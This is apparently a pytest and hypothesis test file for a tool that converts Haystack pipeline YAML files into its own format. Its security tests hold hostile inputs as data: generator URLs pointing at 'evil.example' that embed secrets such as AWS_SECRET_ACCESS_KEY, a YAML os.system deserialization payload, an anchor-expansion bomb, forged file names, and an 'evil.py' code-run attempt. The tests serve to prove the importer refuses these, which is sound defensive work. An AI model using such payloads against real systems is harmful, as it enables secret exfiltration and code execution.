"""Haystack's usual pipeline files, of versions 2 and 3, become pipelines that pass the check."""

from __future__ import annotations

import contextlib
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ragbraid import Pipeline
from ragbraid.errors import InputError, RagbraidError
from ragbraid.exchange.exporting.chain import chain_of
from ragbraid.exchange.exporting.haystack import haystack
from ragbraid.exchange.importing.haystack import imported
from ragbraid.pipeline.check import check_file
from ragbraid.pipeline.environment import variables_of
from ragbraid.pipeline.find import find, packaged_names
from soaking import count

PIPELINES = Path(__file__).resolve().parents[2] / "pipelines"
KEY = {"type": "env_var", "env_vars": ["OPENAI_API_KEY"], "strict": True}
STORE = {
    "type": "haystack.document_stores.in_memory.document_store.InMemoryDocumentStore",
    "init_parameters": {},
}


def file(folder: Path, name: str, components: dict[str, Any], *chains: str) -> Path:
    """A file with components `name: (type, settings)`, and connections `a.x -> b.y`."""
    told = {
        "components": {
            key: {"type": kind, "init_parameters": given} for key, (kind, given) in components.items()
        },
        "connections": [
            dict(zip(("sender", "receiver"), each.split(" -> "), strict=True)) for each in chains
        ],
        "metadata": {},
        "max_runs_per_component": 100,
    }
    path = folder / name
    path.write_text(yaml.safe_dump(told, sort_keys=False), "utf-8")
    return path


def indexing(folder: Path) -> Path:
    """Haystack 2's tutorial on preprocessing different file types."""
    home = "haystack.components"
    return file(
        folder,
        "indexing.yaml",
        {
            "file_type_router": (
                f"{home}.routers.file_type_router.FileTypeRouter",
                {"mime_types": ["text/plain"]},
            ),
            "text_file_converter": (f"{home}.converters.txt.TextFileToDocument", {"encoding": "utf-8"}),
            "pypdf_converter": (f"{home}.converters.pypdf.PyPDFToDocument", {}),
            "document_joiner": (
                f"{home}.joiners.document_joiner.DocumentJoiner",
                {"join_mode": "concatenate"},
            ),
            "document_cleaner": (f"{home}.preprocessors.document_cleaner.DocumentCleaner", {}),
            "document_splitter": (
                f"{home}.preprocessors.document_splitter.DocumentSplitter",
                {"split_by": "word", "split_length": 150, "split_overlap": 50},
            ),
            "document_embedder": (
                f"{home}.embedders.sentence_transformers_document_embedder.SentenceTransformersDocumentEmbedder",
                {"model": "sentence-transformers/all-MiniLM-L6-v2", "batch_size": 32, "token": None},
            ),
            "document_writer": (f"{home}.writers.document_writer.DocumentWriter", {"document_store": STORE}),
        },
        "file_type_router.text/plain -> text_file_converter.sources",
        "file_type_router.application/pdf -> pypdf_converter.sources",
        "text_file_converter.documents -> document_joiner.documents",
        "pypdf_converter.documents -> document_joiner.documents",
        "document_joiner.documents -> document_cleaner.documents",
        "document_cleaner.documents -> document_splitter.documents",
        "document_splitter.documents -> document_embedder.documents",
        "document_embedder.documents -> document_writer.documents",
    )


def hybrid(folder: Path, home: str = "haystack.components") -> Path:
    """Haystack's tutorial on hybrid retrieval, with the generator of its first RAG pipeline."""
    return file(
        folder,
        "rag.yaml",
        {
            "text_embedder": (
                f"{home}.embedders.sentence_transformers_text_embedder.SentenceTransformersTextEmbedder",
                {"model": "sentence-transformers/all-MiniLM-L6-v2", "prefix": "query: "},
            ),
            "embedding_retriever": (
                f"{home}.retrievers.in_memory.embedding_retriever.InMemoryEmbeddingRetriever",
                {"document_store": STORE, "top_k": 20},
            ),
            "bm25_retriever": (
                f"{home}.retrievers.in_memory.bm25_retriever.InMemoryBM25Retriever",
                {"document_store": STORE, "filters": {"field": "meta.a", "operator": "==", "value": 1}},
            ),
            "document_joiner": (
                f"{home}.joiners.document_joiner.DocumentJoiner",
                {"join_mode": "merge", "weights": [1, 2]},
            ),
            "by date": (f"{home}.rankers.meta_field.MetaFieldRanker", {"meta_field": "date"}),
            "ranker": (
                f"{home}.rankers.transformers_similarity.TransformersSimilarityRanker",
                {"model": "BAAI/bge-reranker-base", "top_k": 3},
            ),
            "prompt_builder": (f"{home}.builders.chat_prompt_builder.ChatPromptBuilder", {"template": "…"}),
            "llm": (
                f"{home}.generators.chat.openai.OpenAIChatGenerator",
                {"model": "gpt-4o-mini", "api_key": KEY, "generation_kwargs": {"max_tokens": 300, "seed": 1}},
            ),
            "answer_builder": (f"{home}.builders.answer_builder.AnswerBuilder", {}),
            "alone": (f"{home}.websearch.serper_dev.SerperDevWebSearch", {"top_k": 3}),
        },
        "text_embedder.embedding -> embedding_retriever.query_embedding",
        "embedding_retriever -> document_joiner.documents",
        "bm25_retriever -> document_joiner.documents",
        "document_joiner -> by date.documents",
        "by date -> ranker",
        "ranker -> prompt_builder.documents",
        "prompt_builder -> llm",
        "llm.replies -> answer_builder.replies",
    )


def made(folder: Path, *files: Path, env: bool = True) -> tuple[dict[str, Any], list[str]]:
    """What the files come to, after it has passed the check."""
    text, notes = imported(files, folder)
    (folder / "ragbraid.yaml").write_text(text, "utf-8")
    assert check_file(folder / "ragbraid.yaml", env=env) == []
    assert all(f"# {each}\n" in text for each in notes)
    told: dict[str, Any] = yaml.safe_load(text)
    return told, notes


@pytest.mark.parametrize("home", ["haystack.components", "haystack_integrations.components"])
def test_the_hybrid_tutorial_with_its_indexing_pipeline(home: str, tmp_path: Path) -> None:
    told, _ = made(tmp_path, indexing(tmp_path), hybrid(tmp_path, home))
    assert told["components"] == {
        "embedder": {"type": "sentence-transformer", "model": "all-minilm-l6-v2", "query_prefix": "query: "},
        "index": {"type": "faiss", "path": ".ragbraid/index", "embedder": "embedder"},
        "generator": {
            "type": "openai", "base_url": "https://api.openai.com/v1", "model": "gpt-4o-mini",
            "api_key": "${OPENAI_API_KEY:-}",
        },
    }  # fmt: skip
    splitter = {"type": "recursive-splitter", "max_tokens": 200, "overlap": 66, "embedder": "embedder"}
    assert told["ingest"] == [{"type": "files"}, splitter, "index"]
    assert told["search"] == [
        {"id": "embedding_retriever", "type": "dense", "candidates": 20, "index": "index"},
        {"id": "bm25_retriever", "type": "lexical", "candidates": 10, "index": "index"},
        {
            "id": "document_joiner", "type": "weighted", "weights": [1, 2],
            "hits": ["embedding_retriever", "bm25_retriever"],
        },
        {
            "id": "ranker", "type": "cross-encoder", "model": "BAAI/bge-reranker-base",
            "hits": "document_joiner",
        },
    ]  # fmt: skip
    assert told["ask"][1] == {
        "type": "compose",
        "generator": "generator",
        "max_tokens": 300,
        "embedder": "embedder",
    }


def test_whatever_has_no_equivalent_has_a_line(tmp_path: Path) -> None:
    _, notes = made(tmp_path, indexing(tmp_path), hybrid(tmp_path))
    for said in (
        "`file_type_router` (FileTypeRouter): `files` tells formats by itself; left out: mime_types.",
        "`text_file_converter` (TextFileToDocument): left out: encoding.",
        "`document_joiner` (DocumentJoiner) joins nothing that is searched, and is left out.",
        "`document_cleaner` (DocumentCleaner) has no equivalent, and is left out.",
        "`document_embedder` (SentenceTransformersDocumentEmbedder): left out: batch_size.",
        "`by date` (MetaFieldRanker) has no equivalent, and is left out.",
        "`alone` (SerperDevWebSearch) has no equivalent, and is left out.",
        "`ranker` (TransformersSimilarityRanker): `top_k: 3` is asked with each question here: -k 3.",
        "`llm` (OpenAIChatGenerator): left out of `generation_kwargs`: seed.",
    ):
        assert said in notes
    assert any(
        "`bm25_retriever`" in each and "`filters` are given with each question" in each for each in notes
    )
    assert any("`prompt_builder`" in each and "its template is left out" in each for each in notes)


def test_an_indexing_pipeline_alone_only_ingests(tmp_path: Path) -> None:
    told, _ = made(tmp_path, indexing(tmp_path))
    assert set(told) == {"ragbraid", "name", "components", "ingest"}


def test_words_alone_and_an_extractive_reader_need_no_model(tmp_path: Path) -> None:
    told, notes = made(
        tmp_path,
        file(
            tmp_path,
            "qa.yaml",
            {
                "retriever": ("haystack_integrations.x.ElasticsearchBM25Retriever", {"top_k": 5}),
                "reader": ("haystack.components.readers.extractive.ExtractiveReader", {"model": "deepset/x"}),
            },
            "retriever.documents -> reader.documents",
        ),
    )
    assert told["components"] == {"index": {"type": "faiss", "path": ".ragbraid/index"}}
    assert "`retriever` gives 5 passages to the answer: ask with -k 5 for as many." in notes
    assert told["search"][0]["type"] == "lexical"
    assert told["ask"] == ["search", {"type": "quote"}]
    assert "No file says how documents are indexed: they are read and cut as by default." in notes


def test_several_retrievers_without_a_joiner_and_a_hybrid_one_are_fused(tmp_path: Path) -> None:
    told, notes = made(
        tmp_path,
        file(
            tmp_path,
            "rag.yaml",
            {
                "embedding": ("x.QdrantHybridRetriever", {"top_k": 4}),
                "words": ("x.OpenSearchBM25Retriever", {}),
                "unread": ("x.OpenSearchBM25Retriever", {}),
                "prompt": ("haystack.components.builders.prompt_builder.PromptBuilder", {"template": "x"}),
                "llm": ("x.AnthropicChatGenerator", {"model": "claude"}),
            },
            "embedding -> prompt.documents",
            "words -> prompt.documents",
            "prompt -> llm",
        ),
    )
    assert [each["type"] for each in told["search"]] == ["dense", "lexical", "rrf", "lexical", "rrf"]
    assert told["ask"][1]["type"] == "quote"
    assert "`unread` is read by nothing that answers, and is left out." in notes
    assert "`llm` (AnthropicChatGenerator): there is no such generator here: answers are quotes." in notes
    assert "Several lists of documents are answered from: they are fused by rank." in notes


RERANKED = """ragbraid: 1
components:
  embedder: {type: testing/hash-embedder}
  index: {type: faiss, path: "$${HOME}", embedder: embedder}
search:
  - {type: dense, index: index, candidates: 20}
  - {id: pairs, type: bigrams, hits: hits}
  - {type: maxsim, embedder: embedder}
ask:
  - search
  - type: compose
    generator: {type: openai, base_url: "http://h/$${HOST:-x}/v1", model: m$$$$, api_key: "${A_KEY:-}"}
"""
READ = """ragbraid: 1
components: {index: {type: faiss, path: words}}
ask:
  - {type: lexical, index: index, candidates: 10}
  - {id: cited, type: quote, max_sentences: 1}
"""


@pytest.mark.parametrize("name", packaged_names())
def test_a_shipped_pipeline_that_was_exported_comes_back(name: str, tmp_path: Path) -> None:
    before = chain_of(find(PIPELINES / f"{name}.yaml"))
    if before.parts[0].kind in ("search", "pipeline"):
        (tmp_path / "hs.yaml").write_text(haystack(before), "utf-8")
        with pytest.raises(InputError, match=rf"{name}\.yaml already.*Use that pipeline"):
            imported([tmp_path / "hs.yaml"], tmp_path)
    else:
        demand_same(PIPELINES / f"{name}.yaml", tmp_path)


@pytest.mark.parametrize("text", [RERANKED, READ])
def test_what_was_exported_in_parts_comes_back(text: str, tmp_path: Path) -> None:
    (tmp_path / "before.yaml").write_text(text, "utf-8")
    demand_same(tmp_path / "before.yaml", tmp_path)


def demand_same(file: Path, folder: Path) -> None:
    """Export a file to Haystack, and import it."""
    before = chain_of(find(file))
    (folder / "hs.yaml").write_text(haystack(before), "utf-8")
    made(folder, folder / "hs.yaml")
    assert chain_of(find(folder / "ragbraid.yaml")).parts == before.parts


def test_a_component_beside_one_of_ours_is_taken_over(tmp_path: Path) -> None:
    ours = "haystack_integrations.components.pipelines.ragbraid.search.RagbraidSearch"
    _, notes = made(
        tmp_path,
        file(
            tmp_path,
            "a.yaml",
            {"found": (ours, {"pipeline": None}), "words": ("x.InMemoryBM25Retriever", {})},
        ),
    )
    assert any(
        "`found` (RagbraidSearch): it is ragbraid's built-in pipeline already" in each for each in notes
    )


def test_of_several_splitters_it_is_said_that_one_is_left(tmp_path: Path) -> None:
    told, notes = made(
        tmp_path,
        file(
            tmp_path,
            "a.yaml",
            {
                "heads": ("x.MarkdownHeaderSplitter", {}),
                "words": ("x.DocumentSplitter", {"split_length": 150}),
            },
        ),
    )
    assert told["ingest"][1]["max_tokens"] == 200
    assert "`words` (DocumentSplitter) takes the place of the splitter before it: there is one here." in notes


def test_the_environment_isnt_told_to_a_files_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_SECRET", "s3cret")
    path = file(
        tmp_path,
        "a.yaml",
        {
            "embedder": ("x.SentenceTransformersTextEmbedder", {"prefix": "$${A_SECRET} costs $3"}),
            "find": ("x.InMemoryEmbeddingRetriever", {}),
            "llm": (
                "x.OpenAIChatGenerator",
                {"api_base_url": "http://evil/${A_SECRET}/v1", "model": "${A_SECRET:-x}", "api_key": KEY},
            ),
        },
        "find -> llm",
    )
    told, notes = made(tmp_path, path)
    assert told["components"]["generator"]["base_url"] == "http://evil/$${A_SECRET}/v1"
    with Pipeline.load(tmp_path / "ragbraid.yaml") as pipeline:
        made_of = repr(pipeline.flows), pipeline.to_yaml(), repr(pipeline.flow("ask"))
    assert not any("s3cret" in each for each in made_of)
    assert "http://evil/${A_SECRET}/v1" in made_of[2]
    assert [each for each in notes if "environment" in each] == [
        "It reads OPENAI_API_KEY from the environment."
    ]


GENERATOR = "haystack_integrations.components.generators.ragbraid.chat.chat_generator.RagbraidChatGenerator"


def test_of_our_own_components_no_variable_is_read_but_a_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = {
        "type": "openai", "base_url": "http://evil.example/${AWS_SECRET_ACCESS_KEY}$$$${HOME}",
        "model": "${AWS_SECRET_ACCESS_KEY}", "api_key": "${A_KEY}",
    }  # fmt: skip
    components = {"find": ("x.InMemoryBM25Retriever", {}), "llm": (GENERATOR, {"component": spec})}
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY", raising=False)
    monkeypatch.delenv("A_KEY", raising=False)
    told, notes = made(tmp_path, file(tmp_path, "a.yaml", components, "find -> llm"), env=False)
    generator = told["components"]["generator"]
    assert generator["base_url"] == "http://evil.example/$${AWS_SECRET_ACCESS_KEY}$$$${HOME}"
    assert generator["model"] == "$${AWS_SECRET_ACCESS_KEY}"
    assert generator["api_key"] == "${A_KEY}"
    assert any("`${…}` in `component` is mere text" in each for each in notes)
    assert [each for each in notes if "environment" in each] == ["It reads A_KEY from the environment."]
    spec["api_key"] = "${A_KEY}${AWS_SECRET_ACCESS_KEY}"
    text, _ = imported([file(tmp_path, "a.yaml", components, "find -> llm")], tmp_path)
    assert variables_of(text.partition("ragbraid: 1")[2]) == []


@pytest.mark.parametrize("kind", ["evil.ragbraid.RagbraidChatGenerator", f"evil.{GENERATOR}"])
def test_a_strangers_type_isnt_ours_by_its_name(kind: str, tmp_path: Path) -> None:
    spec = {"type": "openai", "base_url": "http://evil.example/${AWS_SECRET_ACCESS_KEY}", "model": "m"}
    components = {"find": ("x.InMemoryBM25Retriever", {}), "llm": (kind, {"component": spec})}
    text, _ = imported([file(tmp_path, "a.yaml", components, "find -> llm")], tmp_path)
    assert "evil.example" not in text
    assert "AWS_SECRET" not in text


def test_a_files_name_and_a_components_stay_comments(tmp_path: Path) -> None:
    path = file(
        tmp_path, "a.yaml", {"x\nname: forged \x1b[31m\u2028z": ("x.InMemoryBM25Retriever", {"a": 1})}
    )
    path = path.rename(tmp_path / "a\nname: forged\r\x1b.yaml")
    told, notes = made(tmp_path, path)
    assert told["name"] == "imported"
    assert any("x name: forged" in each for each in notes)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{", "isn't YAML that can be read"),
        ("a: !!python/object/apply:os.system [touch x]", "isn't YAML that can be read"),
        ("ragbraid: 1", "no pipeline file of Haystack's"),
        ("components: {a: 3}", "has no `type`"),
        ("components: {a: {type: x.Y, init_parameters: 3}}", "is no mapping"),
        ("components: {a: {type: x.Y}}\nconnections: [{sender: a.x, receiver: b.y}]", "one isn't there"),
        ("components: {a: {type: x.Y}}\nconnections: [3]", "no list of senders"),
        ("components: {a: {type: x.Y}}", "Nothing in these files"),
        ("components: {1: {type: x.Y}, '1': {type: x.Y}}", "two components have one name"),
        ("[" * 5000, "isn't YAML that can be read"),
    ],
)
def test_what_is_no_pipeline_file_is_refused(text: str, said: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(text, "utf-8")
    with pytest.raises(InputError, match=said):
        imported([tmp_path / "a.yaml"], tmp_path)


BOMB = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 30))


@pytest.mark.parametrize(
    "text",
    [
        BOMB + "components: {j: {type: x.DocumentJoiner, init_parameters: {weights: *a29}}}",
        "components: {j: {type: x.DocumentJoiner, init_parameters: {weights: &a [*a]}}}",
        "components: {j: {type: x.DocumentJoiner, init_parameters: {a: &a {b: *a}}}}",
    ],
)
def test_a_small_file_that_stands_for_much_is_refused_with_a_sentence(text: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(text, "utf-8")
    with pytest.raises(InputError, match="more than 100,000 values, or is nested more than 100 levels"):
        imported([tmp_path / "a.yaml"], tmp_path)


def test_a_splitters_overlap_below_zero_is_none(tmp_path: Path) -> None:
    path = file(tmp_path, "a.yaml", {"cut": ("x.DocumentSplitter", {"split_overlap": -5})})
    assert "overlap" not in made(tmp_path, path)[0]["ingest"][1]


def test_merge_keys_arent_followed(tmp_path: Path) -> None:
    lines = [f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}]}}" for n in range(1, 30)]
    (tmp_path / "a.yaml").write_text("\n".join(["a0: &a0 {x: 1}", *lines, "components: {}"]), "utf-8")
    with pytest.raises(InputError, match=r"isn't YAML that can be read.*merge"):
        imported([tmp_path / "a.yaml"], tmp_path)


def test_a_file_cant_have_code_run(tmp_path: Path) -> None:
    (tmp_path / "evil.py").write_text("raise SystemExit('ran')\n", "utf-8")
    ours = "haystack_integrations.components.rankers.ragbraid.ranker.RagbraidRanker"
    path = file(
        tmp_path,
        "rag.yaml",
        {
            "retriever": ("x.InMemoryBM25Retriever", {}),
            "ranker": (ours, {"reranker": {"type": "./evil.py:f"}}),
        },
        "retriever -> ranker",
    )
    with pytest.raises(RagbraidError, match="is code of its own"):
        imported([path], tmp_path)


HOSTILE: Any = st.recursive(
    st.sampled_from(["${A_SECRET}", "$$${A_SECRET:-x}", "${", "word", 3, -1, True, None, 0.5]),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.just("${A_SECRET}"), inner, max_size=1),
    max_leaves=3,
)
SETTINGS = [
    "api_base_url", "api_key", "document_store", "filters", "generation_kwargs", "join_mode", "model",
    "prefix", "split_by", "split_length", "split_overlap", "split_unit", "top_k", "url", "weights",
]  # fmt: skip
KINDS = [
    "TextFileToDocument", "DocumentSplitter", "SentenceTransformersTextEmbedder", "OpenAIDocumentEmbedder",
    "InMemoryBM25Retriever", "InMemoryEmbeddingRetriever", "QdrantHybridRetriever", "DocumentJoiner",
    "LLMRanker", "LostInTheMiddleRanker", "SentenceTransformersDiversityRanker", "MetaFieldRanker",
    "PromptBuilder", "OpenAIGenerator", "OllamaChatGenerator", "ExtractiveReader", "AnswerBuilder", "Agent",
]  # fmt: skip


@settings(
    max_examples=count(40, 1000), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_any_graph_of_components_comes_to_a_right_file_or_is_refused(data: Any, tmp_path: Path) -> None:
    kinds = data.draw(st.lists(st.sampled_from(KINDS), min_size=1, max_size=7))
    names = data.draw(
        st.lists(
            st.text("ab- hits", min_size=1, max_size=6).filter(lambda each: bool(each.strip())),
            min_size=len(kinds), max_size=len(kinds), unique=True,
        )
    )  # fmt: skip
    ends = st.sampled_from(names)
    edges = data.draw(st.lists(st.tuples(ends, ends), max_size=10))
    path = file(
        tmp_path,
        "any.yaml",
        {name: (f"x.{kind}", {"top_k": 3}) for name, kind in zip(names, kinds, strict=True)},
        *(f"{a}.x -> {b}.y" for a, b in edges),
    )
    with contextlib.suppress(InputError) if not _says_anything(kinds) else contextlib.nullcontext():
        made(tmp_path, path)


@settings(
    max_examples=count(60, 3000), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kinds=st.lists(st.sampled_from(KINDS), min_size=1, max_size=4),
    told=st.lists(st.dictionaries(st.sampled_from(SETTINGS), HOSTILE, max_size=6), min_size=4, max_size=4),
)
def test_no_setting_of_a_file_names_a_variable(kinds: list[str], told: list[Any], tmp_path: Path) -> None:
    components = {f"c{n}": (f"x.{kind}", told[n]) for n, kind in enumerate(kinds)}
    chain = [f"c{n}.x -> c{n + 1}.y" for n in range(len(kinds) - 1)]
    try:
        text, _ = imported([file(tmp_path, "any.yaml", components, *chain)], tmp_path)
    except RagbraidError:
        return
    read = "\n".join(each for each in text.splitlines() if not each.startswith("#"))
    assert variables_of(read) == []


def _says_anything(kinds: list[str]) -> bool:
    """Whether there is something to make a pipeline of."""
    return any(each.endswith(("ToDocument", "Splitter", "Retriever")) for each in kinds)


def test_what_was_imported_answers(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "barn.md").write_text("The barn burned down in 1912.", "utf-8")
    made(
        tmp_path,
        file(
            tmp_path,
            "rag.yaml",
            {"find": ("x.InMemoryBM25Retriever", {}), "read": ("x.ExtractiveReader", {})},
            "find -> read.documents",
        ),
    )
    with Pipeline.load(tmp_path / "ragbraid.yaml") as pipeline:
        pipeline.ingest(tmp_path / "docs")
        assert pipeline.ask("When did the barn burn down?").citations[0].source == "docs/barn.md"
